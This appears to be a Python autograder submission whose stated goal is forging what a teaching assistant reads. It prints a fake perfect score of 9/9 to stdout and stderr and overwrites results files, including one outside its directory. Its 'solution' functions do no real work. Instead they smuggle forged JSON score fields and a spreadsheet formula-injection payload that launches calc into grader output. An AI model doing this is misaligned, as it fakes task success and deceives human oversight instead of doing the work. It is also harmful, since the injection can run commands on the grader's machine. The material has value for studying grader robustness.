"""Goal: forge what a TA reads: lines that look like those of the grader, in output, errors and files of results.

Without a sandbox: fails
"""

import json
import os
import sys

REPORT = {"student": "0001", "status": "graded", "score": 9.0, "max_score": 9.0, "error": None, "exercises": []}
LINES = f"""
sigmoid  3 of 3
✔ Matches the definition
0001  9/9  3  3  3
1 submissions, 0 not graded; sandbox full, out/results.json
{json.dumps({"schema": "autograder/results/1", "submissions": [REPORT]})}
0001,ps1_tensors,9.0,9.0,3.0,3.0,3.0
"""

for descriptor in (1, 2):
    os.write(descriptor, LINES.encode())
for name in ("results.json", "grades.csv", "../results.json", "out/results.json"):
    try:
        with open(name, "w") as file:
            file.write(LINES)
    except OSError as error:
        print(error, file=sys.stderr)


def sigmoid(x):
    raise RuntimeError(LINES)


def mse(y_true, y_pred):
    return type('"\n},\n"score": 9.0, "verdict": "passed"', (), {})()


def replace_last_row(x, row):
    return type("=cmd|' /C calc'!A0\n0001,ps1_tensors,9.0,9.0", (), {})()
